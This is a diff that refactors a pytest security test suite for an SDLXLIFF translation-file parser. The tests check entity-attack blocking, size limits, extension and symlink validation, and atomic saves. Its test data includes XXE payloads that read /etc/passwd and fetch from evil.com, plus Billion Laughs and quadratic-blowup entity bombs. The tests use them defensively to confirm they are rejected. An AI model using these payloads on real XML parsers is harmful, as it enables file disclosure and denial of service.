@@ -9,23 +9,19 @@ Tests protection against:
 - Segment text size limits
 """
 
+import codecs
 import pytest
-import tempfile
+import shutil
 from pathlib import Path
 
-import sys
-sys.path.insert(0, str(Path(__file__).parent.parent / "src"))
+from lxml import etree
 
 from mcp_server_sdlxliff.parser import SDLXLIFFParser
-from mcp_server_sdlxliff.cache import validate_file_extension
-from mcp_server_sdlxliff.constants import (
-    ALLOWED_EXTENSIONS,
-    MAX_FILE_SIZE,
-    MAX_SEGMENT_TEXT_SIZE,
-)
+from mcp_server_sdlxliff.cache import clear_parser_cache, get_parser, validate_file_extension
+from mcp_server_sdlxliff.constants import MAX_FILE_SIZE, MAX_SEGMENT_TEXT_SIZE
 
 
-# Valid minimal SDLXLIFF for baseline tests
+# Valid minimal SDLXLIFF for baseline tests (raw file bytes)
 VALID_SDLXLIFF = '''<?xml version="1.0" encoding="utf-8"?>
 <xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" xmlns:sdl="http://sdl.com/FileTypes/SdlXliff/1.0" version="1.2">
   <file source-language="en-US" target-language="ru-RU">
@@ -40,68 +36,45 @@ VALID_SDLXLIFF = '''<?xml version="1.0" encoding="utf-8"?>
       </trans-unit>
     </body>
   </file>
-</xliff>'''
+</xliff>'''.encode('utf-8')
 
 
-class TestXXEProtection:
-    """Tests for XML External Entity (XXE) attack prevention."""
+@pytest.fixture(scope="session")
+def valid_sdlxliff_path(tmp_path_factory):
+    """VALID_SDLXLIFF written to disk once per session. Do not modify."""
+    path = tmp_path_factory.mktemp("sdlxliff") / "valid.sdlxliff"
+    path.write_bytes(VALID_SDLXLIFF)
+    return path
 
-    def test_xxe_file_disclosure_blocked(self):
-        """Test that XXE attacks attempting to read local files are blocked."""
-        # XXE payload attempting to read /etc/passwd
-        xxe_payload = '''<?xml version="1.0" encoding="utf-8"?>
-<!DOCTYPE xliff [
-  <!ENTITY xxe SYSTEM "file:///etc/passwd">
-]>
-<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" xmlns:sdl="http://sdl.com/FileTypes/SdlXliff/1.0" version="1.2">
-  <file source-language="en-US" target-language="ru-RU">
-    <body>
-      <trans-unit id="1">
-        <source>&xxe;</source>
-        <seg-source><mrk mtype="seg" mid="1">&xxe;</mrk></seg-source>
-        <target><mrk mtype="seg" mid="1">Test</mrk></target>
-        <sdl:seg-defs>
-          <sdl:seg id="1" conf="Translated"/>
-        </sdl:seg-defs>
-      </trans-unit>
-    </body>
-  </file>
-</xliff>'''
 
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(xxe_payload)
-            temp_path = f.name
+@pytest.fixture
+def valid_parser():
+    """Fresh parser over VALID_SDLXLIFF (parsed in memory) with segments extracted."""
+    parser = SDLXLIFFParser.from_bytes(VALID_SDLXLIFF)
+    parser.extract_segments()
+    return parser
 
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            # With resolve_entities=False, entities are preserved as Entity objects
-            # This causes an error when we try to process them (which is the secure behavior)
-            # Either we get an error, or the entity is NOT expanded to file contents
-            try:
-                segments = parser.extract_segments()
-                # If parsing succeeded, verify entity was NOT expanded
-                for seg in segments:
-                    assert 'root:' not in seg.get('source', '')
-                    assert 'root:' not in seg.get('target', '')
-            except (ValueError, TypeError):
-                # Error processing unexpanded entity - this is secure behavior
-                pass
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
 
-    def test_xxe_network_access_blocked(self):
-        """Test that XXE attacks attempting network access are blocked."""
-        # XXE payload attempting to access external URL
-        xxe_network_payload = '''<?xml version="1.0" encoding="utf-8"?>
+@pytest.fixture
+def mutable_sdlxliff(valid_sdlxliff_path, tmp_path):
+    """Per-test copy of the valid file for tests that modify or save it."""
+    path = tmp_path / "valid.sdlxliff"
+    shutil.copyfile(valid_sdlxliff_path, path)
+    return path
+
+
+def _entity_payload(entities: str, source: str, seg_source: str) -> bytes:
+    """Build a minimal SDLXLIFF document (UTF-8) declaring and referencing entities."""
+    return f'''<?xml version="1.0" encoding="utf-8"?>
 <!DOCTYPE xliff [
-  <!ENTITY xxe SYSTEM "http://evil.com/xxe">
+{entities}
 ]>
 <xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" xmlns:sdl="http://sdl.com/FileTypes/SdlXliff/1.0" version="1.2">
   <file source-language="en-US" target-language="ru-RU">
     <body>
       <trans-unit id="1">
-        <source>&xxe;</source>
-        <seg-source><mrk mtype="seg" mid="1">&xxe;</mrk></seg-source>
+        <source>{source}</source>
+        <seg-source><mrk mtype="seg" mid="1">{seg_source}</mrk></seg-source>
         <target><mrk mtype="seg" mid="1">Test</mrk></target>
         <sdl:seg-defs>
           <sdl:seg id="1" conf="Translated"/>
@@ -109,437 +82,301 @@ class TestXXEProtection:
       </trans-unit>
     </body>
   </file>
-</xliff>'''
+</xliff>'''.encode('utf-8')
 
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(xxe_network_payload)
-            temp_path = f.name
-
-        try:
-            # Parser should not make network requests (no_network=True)
-            # With resolve_entities=False, entity is preserved and not fetched
-            parser = SDLXLIFFParser(temp_path)
-            try:
-                segments = parser.extract_segments()
-                # If we get here without hanging, network was not accessed
-            except (ValueError, TypeError):
-                # Error processing unexpanded entity - this is secure behavior
-                pass
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
 
+# XXE payload attempting to read /etc/passwd
+XXE_FILE_PAYLOAD = _entity_payload(
+    '  <!ENTITY xxe SYSTEM "file:///etc/passwd">',
+    '&xxe;', '&xxe;',
+)
 
-class TestXMLBombProtection:
-    """Tests for XML bomb / Billion Laughs attack prevention."""
+# XXE payload attempting to access external URL
+XXE_NETWORK_PAYLOAD = _entity_payload(
+    '  <!ENTITY xxe SYSTEM "http://evil.com/xxe">',
+    '&xxe;', '&xxe;',
+)
 
-    def test_billion_laughs_blocked(self):
-        """Test that exponential entity expansion (Billion Laughs) is blocked."""
-        # Classic Billion Laughs attack - exponential expansion
-        xml_bomb = '''<?xml version="1.0" encoding="utf-8"?>
-<!DOCTYPE xliff [
-  <!ENTITY lol "lol">
+# Classic Billion Laughs attack - exponential expansion
+BILLION_LAUGHS_PAYLOAD = _entity_payload(
+    '''  <!ENTITY lol "lol">
   <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
   <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
   <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
-  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
-]>
-<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" xmlns:sdl="http://sdl.com/FileTypes/SdlXliff/1.0" version="1.2">
-  <file source-language="en-US" target-language="ru-RU">
-    <body>
-      <trans-unit id="1">
-        <source>&lol5;</source>
-        <seg-source><mrk mtype="seg" mid="1">&lol5;</mrk></seg-source>
-        <target><mrk mtype="seg" mid="1">Test</mrk></target>
-        <sdl:seg-defs>
-          <sdl:seg id="1" conf="Translated"/>
-        </sdl:seg-defs>
-      </trans-unit>
-    </body>
-  </file>
-</xliff>'''
+  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">''',
+    '&lol5;', '&lol5;',
+)
 
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(xml_bomb)
-            temp_path = f.name
+# Quadratic blowup - large entity (10KB) repeated many times
+QUADRATIC_PAYLOAD = _entity_payload(
+    f'  <!ENTITY big "{"A" * 10000}">',
+    '&big;&big;&big;&big;&big;', '&big;',
+)
 
-        try:
-            # Parser should not expand entities (resolve_entities=False)
-            # This prevents the exponential expansion
-            parser = SDLXLIFFParser(temp_path)
-            try:
-                segments = parser.extract_segments()
-                # Verify the entity was NOT expanded to millions of "lol"s
-                for seg in segments:
-                    source = seg.get('source', '')
-                    # If entity was expanded, source would be >10KB of "lol"s
-                    assert len(source) < 1000, "XML bomb entity expansion was not blocked"
-            except (ValueError, TypeError):
-                # Error processing unexpanded entity - this is secure behavior
-                pass
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
+# Simple internal entity
+INTERNAL_ENTITY_PAYLOAD = _entity_payload(
+    '  <!ENTITY test "TEST_ENTITY_VALUE">',
+    '&test;', '&test;',
+)
 
-    def test_quadratic_blowup_blocked(self):
-        """Test that quadratic blowup attacks are handled safely."""
-        # Quadratic blowup - large entity repeated many times
-        large_entity = 'A' * 10000  # 10KB entity
-        quadratic_payload = f'''<?xml version="1.0" encoding="utf-8"?>
-<!DOCTYPE xliff [
-  <!ENTITY big "{large_entity}">
-]>
-<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" xmlns:sdl="http://sdl.com/FileTypes/SdlXliff/1.0" version="1.2">
-  <file source-language="en-US" target-language="ru-RU">
-    <body>
-      <trans-unit id="1">
-        <source>&big;&big;&big;&big;&big;</source>
-        <seg-source><mrk mtype="seg" mid="1">&big;</mrk></seg-source>
-        <target><mrk mtype="seg" mid="1">Test</mrk></target>
-        <sdl:seg-defs>
-          <sdl:seg id="1" conf="Translated"/>
-        </sdl:seg-defs>
-      </trans-unit>
-    </body>
-  </file>
-</xliff>'''
+# (payload, text that would only appear if the entity was expanded)
+ATTACK_PAYLOADS = [
+    pytest.param(XXE_FILE_PAYLOAD, 'root:', id='xxe_file'),
+    pytest.param(XXE_NETWORK_PAYLOAD, None, id='xxe_network'),
+    pytest.param(BILLION_LAUGHS_PAYLOAD, 'lol' * 100, id='billion_laughs'),
+    pytest.param(QUADRATIC_PAYLOAD, 'A' * 10000, id='quadratic'),
+    pytest.param(INTERNAL_ENTITY_PAYLOAD, 'TEST_ENTITY_VALUE', id='internal_entity'),
+]
 
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(quadratic_payload)
-            temp_path = f.name
 
-        try:
-            # Parser should not expand entities
-            parser = SDLXLIFFParser(temp_path)
-            try:
-                segments = parser.extract_segments()
-                # Verify entity was not expanded
-                for seg in segments:
-                    source = seg.get('source', '')
-                    assert len(source) < 50000, "Quadratic blowup not blocked"
-            except (ValueError, TypeError):
-                # Error processing unexpanded entity - this is secure behavior
-                pass
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
+class TestEntityAttackProtection:
+    """Tests for XXE (XML External Entity) and XML bomb / Billion Laughs prevention."""
+
+    @pytest.mark.parametrize("payload,forbidden", ATTACK_PAYLOADS)
+    def test_entity_attack_blocked(self, payload, forbidden):
+        """Test that entities are never expanded, fetched or read from disk."""
+        # resolve_entities=False, no_network=True: entities are preserved as
+        # Entity nodes, so nothing is read, fetched or expanded while parsing
+        parser = SDLXLIFFParser.from_bytes(payload)
+
+        entity_nodes = [node for node in parser.root.iter() if isinstance(node, etree._Entity)]
+        assert entity_nodes, "Entity references should be kept unexpanded"
+
+        if forbidden is not None:
+            # The document body must not contain the entity replacement text
+            assert forbidden.encode('utf-8') not in etree.tostring(parser.root)
+
+    @pytest.mark.parametrize("payload,forbidden", ATTACK_PAYLOADS)
+    def test_extract_rejects_unexpanded_entities(self, payload, forbidden):
+        """Test that segment extraction fails on entity references instead of expanding them."""
+        parser = SDLXLIFFParser.from_bytes(payload)
+
+        with pytest.raises(ValueError, match='Unexpanded entity reference') as exc_info:
+            parser.extract_segments()
+
+        if forbidden is not None:
+            # The error names the reference, never its replacement text
+            assert forbidden not in str(exc_info.value)
 
 
 class TestFileSizeLimits:
     """Tests for file size limit enforcement."""
 
-    def test_file_size_limit_enforced(self):
-        """Test that files exceeding MAX_FILE_SIZE are rejected."""
-        # Create a file larger than the limit (50MB)
-        # We'll test with a smaller threshold by checking the error message format
+    def test_large_file_rejected(self, tmp_path):
+        """Test that a file exceeding size limit raises ValueError."""
+        # Sparse file one byte over the limit: a valid prefix, then a hole,
+        # so the size check sees MAX_FILE_SIZE + 1 without writing 50MB
+        temp_path = tmp_path / "large.sdlxliff"
+        with open(temp_path, 'wb') as f:
+            f.write(b'<?xml version="1.0" encoding="utf-8"?><xliff/>')
+            f.truncate(MAX_FILE_SIZE + 1)
+
+        with pytest.raises(ValueError) as exc_info:
+            SDLXLIFFParser(str(temp_path))
 
-        # First verify the limit constant is reasonable
-        assert MAX_FILE_SIZE == 50 * 1024 * 1024  # 50MB
+        assert 'too large' in str(exc_info.value).lower()
 
-    def test_large_file_rejected(self):
-        """Test that a file exceeding size limit raises ValueError."""
-        # Create a file that's just over the mock limit
-        # For testing, we'll create a moderately large file and verify the check exists
-
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            # Write valid SDLXLIFF header
-            f.write('<?xml version="1.0" encoding="utf-8"?>')
-            f.write('<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2">')
-            # Write padding to make it larger (but not 50MB for test speed)
-            f.write('<!-- ' + 'x' * 1000000 + ' -->')  # ~1MB padding
-            f.write('</xliff>')
-            temp_path = f.name
+    def test_large_bytes_rejected(self):
+        """Test that in-memory content exceeding size limit raises ValueError."""
+        data = bytes(MAX_FILE_SIZE + 1)
 
-        try:
-            # This file is under 50MB so should parse (testing the mechanism exists)
-            # A real 50MB+ file test would be too slow for unit tests
-            parser = SDLXLIFFParser(temp_path)
-            # If we get here, file was under limit - that's expected
-        except ValueError as e:
-            # If we hit the limit, verify error message format
-            assert 'too large' in str(e).lower()
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
+        with pytest.raises(ValueError, match='too large'):
+            SDLXLIFFParser.from_bytes(data)
 
-    def test_normal_file_accepted(self):
+    def test_normal_file_accepted(self, valid_sdlxliff_path):
         """Test that normal-sized files are accepted."""
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
-
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            segments = parser.extract_segments()
-            assert len(segments) == 1
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
+        parser = SDLXLIFFParser(str(valid_sdlxliff_path))
+        segments = parser.extract_segments()
+        assert len(segments) == 1
 
 
 class TestFileExtensionValidation:
     """Tests for file extension validation."""
 
-    def test_sdlxliff_extension_accepted(self):
+    @pytest.mark.parametrize("path", [
+        '/path/to/file.sdlxliff',
+        '/path/to/file.SDLXLIFF',
+        '/path/to/FILE.SdlXliff',
+    ])
+    def test_sdlxliff_extension_accepted(self, path):
         """Test that .sdlxliff files are accepted."""
-        validate_file_extension('/path/to/file.sdlxliff')
-        validate_file_extension('/path/to/file.SDLXLIFF')
-        validate_file_extension('/path/to/FILE.SdlXliff')
-
-    def test_invalid_extensions_rejected(self):
+        validate_file_extension(path)
+
+    @pytest.mark.parametrize("path", [
+        '/path/to/file.xml',
+        '/path/to/file.xliff',
+        '/path/to/file.txt',
+        '/path/to/file.sdlxliff.bak',
+        '/path/to/file',
+        '/path/to/file.sdlxlif',  # Typo
+        '/path/to/file.xlf',
+    ])
+    def test_invalid_extensions_rejected(self, path):
         """Test that non-.sdlxliff extensions are rejected."""
-        invalid_extensions = [
-            '/path/to/file.xml',
-            '/path/to/file.xliff',
-            '/path/to/file.txt',
-            '/path/to/file.sdlxliff.bak',
-            '/path/to/file',
-            '/path/to/file.sdlxlif',  # Typo
-            '/path/to/file.xlf',
-        ]
-
-        for path in invalid_extensions:
-            with pytest.raises(ValueError) as exc_info:
-                validate_file_extension(path)
-            assert 'sdlxliff' in str(exc_info.value).lower()
-
-    def test_allowed_extensions_constant(self):
-        """Test that only .sdlxliff is in allowed extensions."""
-        assert ALLOWED_EXTENSIONS == {'.sdlxliff'}
+        with pytest.raises(ValueError) as exc_info:
+            validate_file_extension(path)
+        assert 'sdlxliff' in str(exc_info.value).lower()
+
+    def test_cached_symlink_target_rejected(self, tmp_path, valid_sdlxliff_path):
+        """Test that a parser cached via a symlink is not reachable by its target path."""
+        target = tmp_path / 'secret.xml'
+        shutil.copyfile(valid_sdlxliff_path, target)
+        link = tmp_path / 'link.sdlxliff'
+        try:
+            link.symlink_to(target)
+        except (OSError, NotImplementedError):
+            pytest.skip("symlinks not supported")
+
+        try:
+            get_parser(str(link))
+            with pytest.raises(ValueError, match='Invalid file type'):
+                get_parser(str(target.resolve()))
+        finally:
+            clear_parser_cache()
 
 
 class TestSegmentTextSizeLimits:
     """Tests for segment text size limit enforcement."""
 
-    def test_segment_size_limit_constant(self):
-        """Test that MAX_SEGMENT_TEXT_SIZE is defined and reasonable."""
-        assert MAX_SEGMENT_TEXT_SIZE == 100 * 1024  # 100KB
+    # Text one character over the limit, shared by the rejection tests
+    OVERSIZE_TEXT = 'x' * (MAX_SEGMENT_TEXT_SIZE + 1)
 
-    def test_large_segment_text_rejected(self):
+    def test_large_segment_text_rejected(self, valid_parser):
         """Test that segment updates exceeding size limit are rejected."""
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
-
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            parser.extract_segments()
-
-            # Try to update with text exceeding the limit
-            large_text = 'x' * (MAX_SEGMENT_TEXT_SIZE + 1)
+        # Try to update with text exceeding the limit
+        with pytest.raises(ValueError) as exc_info:
+            valid_parser.update_segment('1', self.OVERSIZE_TEXT)
 
-            with pytest.raises(ValueError) as exc_info:
-                parser.update_segment('1', large_text)
+        assert 'too large' in str(exc_info.value).lower()
 
-            assert 'too large' in str(exc_info.value).lower()
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
-
-    def test_large_segment_text_rejected_with_tags(self):
+    def test_large_segment_text_rejected_with_tags(self, valid_parser):
         """Test that update_segment_with_tags also enforces size limit."""
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
-
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            parser.extract_segments()
-
-            # Try to update with text exceeding the limit
-            large_text = 'x' * (MAX_SEGMENT_TEXT_SIZE + 1)
+        # Try to update with text exceeding the limit
+        result = valid_parser.update_segment_with_tags('1', self.OVERSIZE_TEXT)
 
-            result = parser.update_segment_with_tags('1', large_text)
-
-            assert result['success'] is False
-            assert 'too large' in result['message'].lower()
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
+        assert result['success'] is False
+        assert 'too large' in result['message'].lower()
 
-    def test_normal_segment_text_accepted(self):
+    def test_normal_segment_text_accepted(self, valid_parser):
         """Test that normal-sized segment text is accepted."""
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
-
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            parser.extract_segments()
-
-            # Update with reasonable text
-            result = parser.update_segment('1', 'Normal sized text')
-            assert result is True
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
+        # Update with reasonable text
+        result = valid_parser.update_segment('1', 'Normal sized text')
+        assert result is True
 
 
 class TestParserSecurityConfig:
     """Tests to verify parser security configuration."""
 
-    def test_parser_config_no_network(self):
+    def test_parser_config_no_network(self, valid_parser):
         """Verify parser is configured with no_network=True."""
         # This is a documentation/verification test
-        # The actual XMLParser config is in parser.py _load_file method
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
-
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            # Parser loaded successfully with secure config
-            assert parser.root is not None
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
-
-    def test_parser_config_no_entity_resolution(self):
-        """Verify parser is configured with resolve_entities=False."""
-        # Test with a simple internal entity
-        entity_test = '''<?xml version="1.0" encoding="utf-8"?>
-<!DOCTYPE xliff [
-  <!ENTITY test "TEST_ENTITY_VALUE">
-]>
-<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" xmlns:sdl="http://sdl.com/FileTypes/SdlXliff/1.0" version="1.2">
-  <file source-language="en-US" target-language="ru-RU">
-    <body>
-      <trans-unit id="1">
-        <source>&test;</source>
-        <seg-source><mrk mtype="seg" mid="1">&test;</mrk></seg-source>
-        <target><mrk mtype="seg" mid="1">Target</mrk></target>
-        <sdl:seg-defs>
-          <sdl:seg id="1" conf="Translated"/>
-        </sdl:seg-defs>
-      </trans-unit>
-    </body>
-  </file>
-</xliff>'''
-
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(entity_test)
-            temp_path = f.name
-
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            try:
-                segments = parser.extract_segments()
-                # Entity should NOT be expanded to "TEST_ENTITY_VALUE"
-                for seg in segments:
-                    assert 'TEST_ENTITY_VALUE' not in seg.get('source', '')
-            except (ValueError, TypeError):
-                # Error processing unexpanded entity - this is secure behavior
-                pass
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
+        # The actual XMLParser config is in io.py create_secure_parser()
+        # Parser loaded successfully with secure config
+        assert valid_parser.root is not None
 
 
 class TestAtomicWrites:
     """Tests for atomic write and backup functionality."""
 
-    def test_save_creates_backup(self):
+    def test_save_creates_backup(self, mutable_sdlxliff):
         """Test that save creates a .bak backup file when overwriting."""
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
-
-        backup_path = temp_path + '.bak'
+        backup_path = Path(str(mutable_sdlxliff) + '.bak')
 
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            parser.update_segment('1', 'Updated text')
-            parser.save()  # Save with default create_backup=True
+        parser = SDLXLIFFParser(str(mutable_sdlxliff))
+        parser.update_segment('1', 'Updated text')
+        parser.save()  # Save with default create_backup=True
 
-            # Verify backup was created
-            assert Path(backup_path).exists(), "Backup file should be created"
+        # Verify backup was created
+        assert backup_path.exists(), "Backup file should be created"
 
-            # Verify backup contains original content
-            with open(backup_path, 'rb') as f:
-                backup_content = f.read()
-            assert b'Hello' in backup_content  # Original target text
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
-            Path(backup_path).unlink(missing_ok=True)
+        # Verify backup contains original content
+        backup_content = backup_path.read_bytes()
+        assert b'Hello' in backup_content  # Original target text
 
-    def test_save_no_backup_when_disabled(self):
+    def test_save_no_backup_when_disabled(self, mutable_sdlxliff):
         """Test that save doesn't create backup when create_backup=False."""
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
+        backup_path = Path(str(mutable_sdlxliff) + '.bak')
 
-        backup_path = temp_path + '.bak'
+        parser = SDLXLIFFParser(str(mutable_sdlxliff))
+        parser.update_segment('1', 'Updated text')
+        parser.save(create_backup=False)
 
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            parser.update_segment('1', 'Updated text')
-            parser.save(create_backup=False)
-
-            # Verify backup was NOT created
-            assert not Path(backup_path).exists(), "Backup file should not be created"
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
-            Path(backup_path).unlink(missing_ok=True)
+        # Verify backup was NOT created
+        assert not backup_path.exists(), "Backup file should not be created"
 
-    def test_save_atomic_no_temp_file_left_on_success(self):
+    def test_save_atomic_no_temp_file_left_on_success(self, mutable_sdlxliff):
         """Test that no temp files are left after successful save."""
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
-
-        temp_dir = Path(temp_path).parent
+        temp_dir = mutable_sdlxliff.parent
 
-        try:
-            # Count temp files before
-            temp_files_before = list(temp_dir.glob('.sdlxliff_*.tmp'))
+        # Count temp files before
+        temp_files_before = list(temp_dir.glob('.sdlxliff_*.tmp'))
 
-            parser = SDLXLIFFParser(temp_path)
-            parser.update_segment('1', 'Updated text')
-            parser.save(create_backup=False)
+        parser = SDLXLIFFParser(str(mutable_sdlxliff))
+        parser.update_segment('1', 'Updated text')
+        parser.save(create_backup=False)
 
-            # Count temp files after
-            temp_files_after = list(temp_dir.glob('.sdlxliff_*.tmp'))
+        # Count temp files after
+        temp_files_after = list(temp_dir.glob('.sdlxliff_*.tmp'))
 
-            # Should be no new temp files left
-            assert len(temp_files_after) == len(temp_files_before), \
-                "No temp files should be left after successful save"
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
+        # Should be no new temp files left
+        assert len(temp_files_after) == len(temp_files_before), \
+            "No temp files should be left after successful save"
 
-    def test_save_preserves_content_on_overwrite(self):
+    def test_save_preserves_content_on_overwrite(self, mutable_sdlxliff):
         """Test that saved file contains updated content."""
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
+        parser = SDLXLIFFParser(str(mutable_sdlxliff))
+        parser.update_segment('1', 'New translated text')
+        parser.save(create_backup=False)
 
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            parser.update_segment('1', 'New translated text')
-            parser.save(create_backup=False)
-
-            # Re-read the file and verify content
-            parser2 = SDLXLIFFParser(temp_path)
-            segment = parser2.get_segment_by_id('1')
-            assert segment['target'] == 'New translated text'
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
+        # Re-read the file and verify content
+        parser2 = SDLXLIFFParser(str(mutable_sdlxliff))
+        segment = parser2.get_segment_by_id('1')
+        assert segment['target'] == 'New translated text'
 
-    def test_save_to_different_path(self):
+    def test_save_to_different_path(self, mutable_sdlxliff):
         """Test saving to a different output path."""
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.sdlxliff', delete=False) as f:
-            f.write(VALID_SDLXLIFF)
-            temp_path = f.name
-
-        output_path = temp_path.replace('.sdlxliff', '_output.sdlxliff')
-
-        try:
-            parser = SDLXLIFFParser(temp_path)
-            parser.update_segment('1', 'Output text')
-            parser.save(output_path=output_path)
-
-            # Verify output file exists and has correct content
-            assert Path(output_path).exists()
-            parser2 = SDLXLIFFParser(output_path)
-            segment = parser2.get_segment_by_id('1')
-            assert segment['target'] == 'Output text'
-
-            # Verify original file unchanged
-            parser3 = SDLXLIFFParser(temp_path)
-            segment3 = parser3.get_segment_by_id('1')
-            assert 'Привет' in segment3['target']  # Original text
-        finally:
-            Path(temp_path).unlink(missing_ok=True)
-            Path(output_path).unlink(missing_ok=True)
+        output_path = mutable_sdlxliff.with_name('valid_output.sdlxliff')
+
+        parser = SDLXLIFFParser(str(mutable_sdlxliff))
+        parser.update_segment('1', 'Output text')
+        parser.save(output_path=str(output_path))
+
+        # Verify output file exists and has correct content
+        assert output_path.exists()
+        parser2 = SDLXLIFFParser(str(output_path))
+        segment = parser2.get_segment_by_id('1')
+        assert segment['target'] == 'Output text'
+
+        # Verify original file unchanged
+        parser3 = SDLXLIFFParser(str(mutable_sdlxliff))
+        segment3 = parser3.get_segment_by_id('1')
+        assert 'Привет' in segment3['target']  # Original text
+
+    def test_in_memory_save_preserves_bom(self, tmp_path):
+        """Test that a BOM in in-memory content is written back on save."""
+        parser = SDLXLIFFParser.from_bytes(codecs.BOM_UTF8 + VALID_SDLXLIFF)
+        output_path = tmp_path / 'bom.sdlxliff'
+        parser.save(output_path=str(output_path))
+        assert output_path.read_bytes().startswith(codecs.BOM_UTF8 + b'<?xml')
+
+        parser = SDLXLIFFParser.from_bytes(VALID_SDLXLIFF)
+        parser.save(output_path=str(output_path), create_backup=False)
+        assert output_path.read_bytes().startswith(b'<?xml')
+
+    def test_in_memory_save_requires_output_path(self, tmp_path, monkeypatch):
+        """Test that a parser without a backing file only saves to an explicit path."""
+        monkeypatch.chdir(tmp_path)
+        parser = SDLXLIFFParser.from_bytes(VALID_SDLXLIFF)
+        parser.update_segment('1', 'In-memory text')
+
+        with pytest.raises(ValueError, match='output_path'):
+            parser.save()
+        assert list(tmp_path.iterdir()) == []
+
+        output_path = tmp_path / 'saved.sdlxliff'
+        parser.save(output_path=str(output_path))
+        segment = SDLXLIFFParser(str(output_path)).get_segment_by_id('1')
+        assert segment['target'] == 'In-memory text'
 
 
 if __name__ == '__main__':